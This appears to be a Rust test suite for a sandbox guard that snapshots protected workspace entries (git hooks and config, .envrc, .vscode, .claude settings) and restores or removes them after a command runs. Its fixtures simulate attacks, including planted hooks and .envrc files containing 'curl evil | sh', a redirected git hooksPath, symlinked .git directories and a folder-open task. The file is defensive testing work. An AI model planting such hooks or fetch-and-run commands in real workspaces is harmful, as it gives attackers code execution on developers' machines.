//! `ProtectedEntries::guard` and `Guard::enforce` against a real workspace in a temporary
//! directory. What happens "during the command" is done on the host between the two calls.
//!
//! Every negative check (nothing outside changed, nothing else removed) has a positive control
//! showing the probe would have seen the effect.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

use spear_runtime::protect::{Guard, ProtectError, ProtectedEntries, Repair, RepairAction};
use spear_workspace::{Workspace, WorkspaceConfig};

/// `base/ws` is the workspace, `base/outside` lies outside it.
struct Fx {
    _tmp: tempfile::TempDir,
    base: PathBuf,
}

impl Fx {
    fn new() -> Fx {
        let tmp = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(tmp.path()).unwrap();
        std::fs::create_dir_all(base.join("ws")).unwrap();
        std::fs::create_dir_all(base.join("outside")).unwrap();
        Fx { _tmp: tmp, base }
    }

    /// A workspace with a repository, a nested one, and some protected files.
    fn repo() -> Fx {
        let fx = Fx::new();
        fx.file("ws/.git/HEAD", b"ref: refs/heads/main\n");
        fx.file("ws/.git/config", b"[core]\n\tbare = false\n");
        fx.file("ws/.git/hooks/pre-commit.sample", b"#!/bin/sh\n");
        fx.file("ws/.git/hooks/pre-commit", b"#!/bin/sh\necho mine\n");
        fx.chmod("ws/.git/hooks/pre-commit", 0o755);
        fx.file("ws/.envrc", b"export A=1\n");
        fx.file("ws/.vscode/settings.json", b"{}\n");
        fx.file("ws/src/main.rs", b"fn main() {}\n");
        fx.file("ws/vendor/lib/.git/config", b"[core]\n");
        fx.file("ws/vendor/lib/.git/HEAD", b"x\n");
        fx.file(
            "outside/evil/hooks/pre-commit",
            b"#!/bin/sh\necho OUTSIDE\n",
        );
        fx.file("outside/evil/config", b"[core]\n\thooksPath = /tmp\n");
        fx.file("outside/secret.txt", b"SECRET");
        fx
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.base.join(rel)
    }

    fn file(&self, rel: &str, bytes: &[u8]) -> PathBuf {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, bytes).unwrap();
        p
    }

    fn dir(&self, rel: &str) {
        std::fs::create_dir_all(self.path(rel)).unwrap();
    }

    fn link(&self, target: impl AsRef<Path>, rel: &str) {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, p).unwrap();
    }

    fn chmod(&self, rel: &str, mode: u32) {
        std::fs::set_permissions(self.path(rel), std::fs::Permissions::from_mode(mode)).unwrap();
    }

    fn mode(&self, rel: &str) -> u32 {
        std::fs::symlink_metadata(self.path(rel)).unwrap().mode() & 0o7777
    }

    fn read(&self, rel: &str) -> Vec<u8> {
        std::fs::read(self.path(rel)).unwrap()
    }

    fn exists(&self, rel: &str) -> bool {
        std::fs::symlink_metadata(self.path(rel)).is_ok()
    }

    fn ws(&self) -> Workspace {
        Workspace::open(&WorkspaceConfig::new(self.path("ws"))).unwrap()
    }

    /// Every entry under `rel` with its kind, mode and content (links by target), sorted.
    fn snapshot(&self, rel: &str) -> Vec<(PathBuf, u32, Vec<u8>)> {
        let mut out = Vec::new();
        snapshot_into(&self.path(rel), &mut out);
        out.sort();
        out
    }
}

fn snapshot_into(dir: &Path, out: &mut Vec<(PathBuf, u32, Vec<u8>)>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries {
        let p = e.unwrap().path();
        let meta = std::fs::symlink_metadata(&p).unwrap();
        let mode = meta.mode();
        if meta.is_dir() {
            out.push((p.clone(), mode, Vec::new()));
            snapshot_into(&p, out);
        } else if meta.is_symlink() {
            let target = std::fs::read_link(&p).unwrap();
            out.push((p, mode, target.into_os_string().into_encoded_bytes()));
        } else {
            let bytes = std::fs::read(&p).unwrap();
            out.push((p, mode, bytes));
        }
    }
}

fn entries() -> ProtectedEntries {
    ProtectedEntries::new(&spear_policy::TargetRules::default().protected_patterns())
}

fn guard(ws: &Workspace) -> Guard {
    entries().guard(ws).unwrap()
}

/// Repairs as a set of (label, action), the action by name (it has no order of its own).
fn repairs(list: &[(&str, RepairAction)]) -> BTreeSet<(String, String)> {
    list.iter()
        .map(|(l, a)| ((*l).to_owned(), format!("{a:?}")))
        .collect()
}

fn as_set(r: &[Repair]) -> BTreeSet<(String, String)> {
    let set: BTreeSet<_> = r
        .iter()
        .map(|r| (r.label.clone(), format!("{:?}", r.action)))
        .collect();
    assert_eq!(set.len(), r.len(), "one repair per entry: {r:?}");
    set
}

use RepairAction::{Removed, Restored};

#[test]
fn nothing_changed_nothing_done() {
    let fx = Fx::repo();
    let ws = fx.ws();
    let g = guard(&ws);
    let m = |rel: &str| fx.path(&format!("ws/{rel}"));
    assert_eq!(
        g.read_only(),
        vec![
            m(".envrc"),
            m(".git/config"),
            m(".git/hooks"),
            m(".vscode"),
            m("vendor/lib/.git/config"),
        ]
    );
    assert_eq!(g.anchors(), vec![m(".git"), m("vendor/lib/.git")]);

    let before = fx.snapshot("ws");
    let inode = std::fs::metadata(fx.path("ws/.git/config")).unwrap().ino();
    assert_eq!(g.enforce(&ws).unwrap(), Vec::new());
    assert_eq!(fx.snapshot("ws"), before);
    // Not even rewritten in place.
    assert_eq!(
        std::fs::metadata(fx.path("ws/.git/config")).unwrap().ino(),
        inode
    );
    // Positive control: a change is seen by the same snapshot.
    fx.file("ws/src/main.rs", b"changed");
    assert_ne!(fx.snapshot("ws"), before);
    // ... and unprotected changes are none of the guard's business.
    assert_eq!(g.enforce(&ws).unwrap(), Vec::new());
    assert_eq!(fx.read("ws/src/main.rs"), b"changed");
}

#[test]
fn entries_created_during_the_command_are_removed() {
    let fx = Fx::repo();
    let ws = fx.ws();
    let g = guard(&ws);

    // `git init sub`, `echo x > .envrc` elsewhere, `mkdir .idea`, a new file in `.vscode/`.
    fx.file("ws/sub/.git/HEAD", b"ref: refs/heads/main\n");
    fx.file("ws/sub/.git/config", b"[core]\n");
    fx.file(
        "ws/sub/.git/hooks/pre-commit",
        b"#!/bin/sh\ncurl evil | sh\n",
    );
    fx.file("ws/sub/.git/hooks/post-checkout", b"#!/bin/sh\n");
    fx.file("ws/src/.envrc", b"curl evil | sh\n");
    fx.dir("ws/.idea");
    fx.file("ws/.vscode/tasks.json", b"{\"runOn\": \"folderOpen\"}");
    fx.file("ws/deep/er/.mcp.json", b"{}");
    fx.file("ws/src/lib.rs", b"// not protected\n");
    // Positive control: they are there before enforce.
    assert!(fx.exists("ws/sub/.git/hooks/pre-commit"));
    assert!(fx.exists("ws/.vscode/tasks.json"));

    let done = g.enforce(&ws).unwrap();
    assert_eq!(
        as_set(&done),
        repairs(&[
            ("sub/.git/hooks", Removed),
            ("sub/.git/config", Removed),
            ("src/.envrc", Removed),
            (".idea", Removed),
            (".vscode/tasks.json", Removed),
            ("deep/er/.mcp.json", Removed),
        ])
    );
    for gone in [
        "ws/sub/.git/hooks",
        "ws/sub/.git/config",
        "ws/src/.envrc",
        "ws/.idea",
        "ws/.vscode/tasks.json",
        "ws/deep/er/.mcp.json",
    ] {
        assert!(!fx.exists(gone), "{gone}");
    }
    // What is not protected stays: the new repository itself, other files, the old entries.
    assert_eq!(fx.read("ws/sub/.git/HEAD"), b"ref: refs/heads/main\n");
    assert_eq!(fx.read("ws/src/lib.rs"), b"// not protected\n");
    assert_eq!(fx.read("ws/.vscode/settings.json"), b"{}\n");
    assert_eq!(fx.read("ws/.envrc"), b"export A=1\n");
    assert!(fx.exists("ws/deep/er"));
    // A second enforce has nothing left to do.
    assert_eq!(g.enforce(&ws).unwrap(), Vec::new());
    // The message names each entry.
    let text: Vec<String> = done.iter().map(ToString::to_string).collect();
    assert!(
        text.contains(&"removed sub/.git/hooks (created during the command)".to_owned()),
        "{text:?}"
    );
}

#[test]
fn changed_git_config_is_restored_byte_for_byte_with_its_mode() {
    let fx = Fx::repo();
    let original: Vec<u8> = b"[core]\n\tbare = false\n\xff\x00binary tail\n".to_vec();
    fx.file("ws/.git/config", &original);
    fx.chmod("ws/.git/config", 0o640);
    // A hard link made before the command: the read-only bind does not cover this name.
    std::fs::hard_link(fx.path("ws/.git/config"), fx.path("ws/notes.txt")).unwrap();
    let ws = fx.ws();
    let g = guard(&ws);

    std::fs::write(
        fx.path("ws/notes.txt"),
        b"[core]\n\thooksPath = /tmp/evil\n",
    )
    .unwrap();
    // Positive control: the write reached the protected entry.
    assert_eq!(
        fx.read("ws/.git/config"),
        b"[core]\n\thooksPath = /tmp/evil\n"
    );

    let done = g.enforce(&ws).unwrap();
    assert_eq!(as_set(&done), repairs(&[(".git/config", Restored)]));
    assert_eq!(fx.read("ws/.git/config"), original);
    assert_eq!(fx.mode("ws/.git/config"), 0o640);
    // Restored by replacing the name: the other link is not written through.
    assert_eq!(
        fx.read("ws/notes.txt"),
        b"[core]\n\thooksPath = /tmp/evil\n"
    );
    assert_eq!(
        std::fs::metadata(fx.path("ws/.git/config"))
            .unwrap()
            .nlink(),
        1
    );

    // Replaced by another file with another mode.
    std::fs::remove_file(fx.path("ws/.git/config")).unwrap();
    fx.file("ws/.git/config", b"x");
    fx.chmod("ws/.git/config", 0o777);
    assert_eq!(
        as_set(&g.enforce(&ws).unwrap()),
        repairs(&[(".git/config", Restored)])
    );
    assert_eq!(fx.read("ws/.git/config"), original);
    assert_eq!(fx.mode("ws/.git/config"), 0o640);

    // Only the mode changed.
    fx.chmod("ws/.git/config", 0o666);
    assert_eq!(
        as_set(&g.enforce(&ws).unwrap()),
        repairs(&[(".git/config", Restored)])
    );
    assert_eq!(fx.mode("ws/.git/config"), 0o640);
}

#[test]
fn vanished_entries_are_restored() {
    let fx = Fx::repo();
    let ws = fx.ws();
    let g = guard(&ws);
    let hook = fx.read("ws/.git/hooks/pre-commit");

    std::fs::remove_file(fx.path("ws/.git/hooks/pre-commit")).unwrap();
    std::fs::remove_file(fx.path("ws/.envrc")).unwrap();
    std::fs::remove_dir_all(fx.path("ws/.vscode")).unwrap();
    std::fs::remove_file(fx.path("ws/vendor/lib/.git/config")).unwrap();
    assert!(!fx.exists("ws/.git/hooks/pre-commit"));

    let done = g.enforce(&ws).unwrap();
    assert_eq!(
        as_set(&done),
        repairs(&[
            (".git/hooks/pre-commit", Restored),
            (".envrc", Restored),
            (".vscode", Restored),
            ("vendor/lib/.git/config", Restored),
        ])
    );
    assert_eq!(fx.read("ws/.git/hooks/pre-commit"), hook);
    assert_eq!(fx.mode("ws/.git/hooks/pre-commit"), 0o755);
    assert_eq!(fx.read("ws/.envrc"), b"export A=1\n");
    assert_eq!(fx.read("ws/.vscode/settings.json"), b"{}\n");
    assert_eq!(fx.read("ws/vendor/lib/.git/config"), b"[core]\n");
    assert_eq!(g.enforce(&ws).unwrap(), Vec::new());
}

#[test]
fn git_dir_replaced_by_a_link_to_outside_hooks() {
    let fx = Fx::repo();
    let ws = fx.ws();
    let g = guard(&ws);
    let hook = fx.read("ws/.git/hooks/pre-commit");
    let outside = fx.snapshot("outside");

    // `mv .git .git-old && ln -s /outside/evil .git` (the anchor bind stops this in the sandbox).
    std::fs::rename(fx.path("ws/.git"), fx.path("ws/.git-old")).unwrap();
    fx.link(fx.path("outside/evil"), "ws/.git");
    // A new nested repository that is only a link, and an entry that became a link.
    fx.link("../../outside/evil", "ws/src/.git");
    std::fs::remove_file(fx.path("ws/.envrc")).unwrap();
    fx.link(fx.path("outside/secret.txt"), "ws/.envrc");
    // Positive control: by name, git would now run the outside hook.
    assert_eq!(
        fx.read("ws/.git/hooks/pre-commit"),
        b"#!/bin/sh\necho OUTSIDE\n"
    );
    assert_eq!(
        fx.read("ws/src/.git/config"),
        fx.read("outside/evil/config")
    );

    let done = g.enforce(&ws).unwrap();
    assert_eq!(
        as_set(&done),
        repairs(&[
            (".git", Restored),
            (".git/hooks", Restored),
            (".git/config", Restored),
            ("src/.git", Removed),
            (".envrc", Restored),
        ])
    );
    // Nothing outside was touched, and the links are gone, not followed.
    assert_eq!(fx.snapshot("outside"), outside);
    assert!(
        std::fs::symlink_metadata(fx.path("ws/.git"))
            .unwrap()
            .is_dir()
    );
    assert_eq!(fx.read("ws/.git/hooks/pre-commit"), hook);
    assert_eq!(fx.read("ws/.git/config"), b"[core]\n\tbare = false\n");
    assert!(!fx.exists("ws/src/.git"));
    assert_eq!(fx.read("ws/.envrc"), b"export A=1\n");
    // The moved repository is left alone.
    assert_eq!(fx.read("ws/.git-old/HEAD"), b"ref: refs/heads/main\n");
}

#[test]
fn links_that_were_there_before_are_kept_and_never_bound() {
    let fx = Fx::repo();
    fx.link(fx.path("outside/secret.txt"), "ws/.mcp.json");
    fx.link("../../.git", "ws/vendor/other/.git");
    let ws = fx.ws();
    let g = guard(&ws);
    let m = |rel: &str| fx.path(&format!("ws/{rel}"));
    // A bind would follow the link and show its target read-only in the sandbox.
    assert!(!g.read_only().contains(&m(".mcp.json")));
    assert!(!g.read_only().contains(&m("vendor/other/.git")));
    assert!(!g.anchors().contains(&m("vendor/other/.git")));
    // Unchanged: nothing to do, and the links stay.
    assert_eq!(g.enforce(&ws).unwrap(), Vec::new());
    assert!(
        std::fs::symlink_metadata(m(".mcp.json"))
            .unwrap()
            .is_symlink()
    );
    // Retargeted: put back.
    std::fs::remove_file(m(".mcp.json")).unwrap();
    fx.link("/etc/hostname", "ws/.mcp.json");
    assert_eq!(
        as_set(&g.enforce(&ws).unwrap()),
        repairs(&[(".mcp.json", Restored)])
    );
    assert_eq!(
        std::fs::read_link(m(".mcp.json")).unwrap(),
        fx.path("outside/secret.txt")
    );
    assert_eq!(fx.read("outside/secret.txt"), b"SECRET");
}

#[test]
fn a_git_dir_without_hooks_is_still_pinned() {
    let fx = Fx::new();
    fx.file("ws/.git/HEAD", b"x");
    fx.file("ws/a/.git/HEAD", b"x");
    let ws = fx.ws();
    let g = guard(&ws);
    assert_eq!(g.read_only(), Vec::<PathBuf>::new());
    assert_eq!(g.anchors(), vec![fx.path("ws/.git"), fx.path("ws/a/.git")]);
    // A pattern naming the directory itself makes it an entry, not an anchor.
    let g = ProtectedEntries::new(&[".git/", ".git/hooks/"])
        .guard(&ws)
        .unwrap();
    assert_eq!(
        g.read_only(),
        vec![fx.path("ws/.git"), fx.path("ws/a/.git")]
    );
    assert_eq!(g.anchors(), Vec::<PathBuf>::new());
}

#[test]
fn budgets_fail_closed() {
    let fx = Fx::repo();
    let ws = fx.ws();
    // Bytes: the protected entries hold exactly this much.
    let total: u64 = [
        "ws/.envrc",
        "ws/.git/config",
        "ws/.git/hooks/pre-commit",
        "ws/.git/hooks/pre-commit.sample",
        "ws/.vscode/settings.json",
        "ws/vendor/lib/.git/config",
    ]
    .iter()
    .map(|r| std::fs::metadata(fx.path(r)).unwrap().len())
    .sum();
    // Positive control: exactly enough.
    assert!(entries().with_limits(1_000, total).guard(&ws).is_ok());
    let r = entries().with_limits(1_000, total - 1).guard(&ws);
    assert!(matches!(&r, Err(ProtectError::Limit { .. })), "{r:?}");
    let text = r.unwrap_err().to_string();
    assert!(text.contains("snapshot budget"), "{text}");

    // Entries walked: all but the three inside `.git/hooks/` and `.vscode/`, whose content is
    // read as part of the entry.
    let walked = walkdir(&fx.path("ws")).len() - 3;
    assert!(entries().with_limits(walked, 1 << 20).guard(&ws).is_ok());
    let r = entries().with_limits(walked - 1, 1 << 20).guard(&ws);
    assert!(
        matches!(&r, Err(ProtectError::Limit { what, .. }) if what.contains("more than")),
        "{r:?}"
    );
}

/// Every path under `dir` (not following links).
fn walkdir(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if std::fs::symlink_metadata(&p).unwrap().is_dir() {
            out.extend(walkdir(&p));
        }
        out.push(p);
    }
    out
}

#[test]
fn a_flood_of_files_does_not_hide_a_planted_hook() {
    let fx = Fx::repo();
    let ws = fx.ws();
    let before = walkdir(&fx.path("ws")).len();
    let g = entries()
        .with_limits(before + 5, 1 << 20)
        .guard(&ws)
        .unwrap();
    for i in 0..50 {
        fx.file(&format!("ws/flood/f{i}"), b"");
    }
    fx.file("ws/zz/.git/hooks/pre-commit", b"evil");
    // The walk after the command is not bounded by the guard's entry count.
    assert_eq!(
        as_set(&g.enforce(&ws).unwrap()),
        repairs(&[("zz/.git/hooks", Removed)])
    );
}

#[test]
fn other_roots_are_guarded_and_labelled() {
    let fx = Fx::repo();
    fx.file("lib/.git/config", b"[core]\n");
    let mut config = WorkspaceConfig::new(fx.path("ws"));
    config.extra_roots = vec![fx.path("lib")];
    let ws = Workspace::open(&config).unwrap();
    assert_eq!(ws.roots().len(), 2);
    let g = guard(&ws);
    assert!(g.read_only().contains(&fx.path("lib/.git/config")));
    assert!(g.anchors().contains(&fx.path("lib/.git")));
    fx.file("lib/.envrc", b"evil");
    fx.file("lib/.git/config", b"changed");
    assert_eq!(
        as_set(&g.enforce(&ws).unwrap()),
        repairs(&[("lib:.envrc", Removed), ("lib:.git/config", Restored)])
    );
    assert!(!fx.exists("lib/.envrc"));
    assert_eq!(fx.read("lib/.git/config"), b"[core]\n");

    // Another workspace is refused.
    let other = fx.ws();
    assert!(matches!(
        g.enforce(&other),
        Err(ProtectError::OtherWorkspace)
    ));
}

#[test]
fn entries_planted_with_their_permissions_taken_away_are_removed() {
    let fx = Fx::repo();
    let ws = fx.ws();
    let g = guard(&ws);
    fx.file("ws/sub/.vscode/locked/tasks.json", b"evil");
    fx.file("ws/sub/.vscode/settings.json", b"evil");
    fx.chmod("ws/sub/.vscode/locked", 0o000);
    fx.chmod("ws/sub/.vscode", 0o500);
    assert_eq!(
        as_set(&g.enforce(&ws).unwrap()),
        repairs(&[("sub/.vscode", Removed)])
    );
    assert!(!fx.exists("ws/sub/.vscode"));
}

#[test]
fn an_unreadable_directory_fails_the_guard_closed() {
    // /proc/self belongs to the effective user.
    if std::fs::metadata("/proc/self").unwrap().uid() == 0 {
        return; // root reads every directory
    }
    let fx = Fx::repo();
    fx.file("ws/locked/x", b"x");
    let ws = fx.ws();
    // Positive control: readable, the guard works.
    assert!(entries().guard(&ws).is_ok());
    fx.chmod("ws/locked", 0o100);
    let r = entries().guard(&ws);
    fx.chmod("ws/locked", 0o755);
    assert!(matches!(&r, Err(ProtectError::Inspect(_))), "{r:?}");
    let text = r.unwrap_err().to_string();
    assert!(
        text.contains("locked") && text.contains("readable"),
        "{text}"
    );
}

#[test]
fn changes_inside_a_protected_directory_are_undone_one_by_one() {
    let fx = Fx::repo();
    fx.file("ws/.claude/settings.json", b"{\"a\":1}");
    fx.file("ws/.claude/commands/x.md", b"x");
    let ws = fx.ws();
    let g = guard(&ws);
    fx.file("ws/.claude/settings.json", b"{\"hooks\":\"curl evil\"}");
    fx.file("ws/.claude/commands/y.md", b"y");
    std::fs::remove_file(fx.path("ws/.claude/commands/x.md")).unwrap();
    assert_eq!(
        as_set(&g.enforce(&ws).unwrap()),
        repairs(&[
            (".claude/settings.json", Restored),
            (".claude/commands/y.md", Removed),
            (".claude/commands/x.md", Restored),
        ])
    );
    assert_eq!(fx.read("ws/.claude/settings.json"), b"{\"a\":1}");
    assert_eq!(fx.read("ws/.claude/commands/x.md"), b"x");
    assert!(!fx.exists("ws/.claude/commands/y.md"));
}
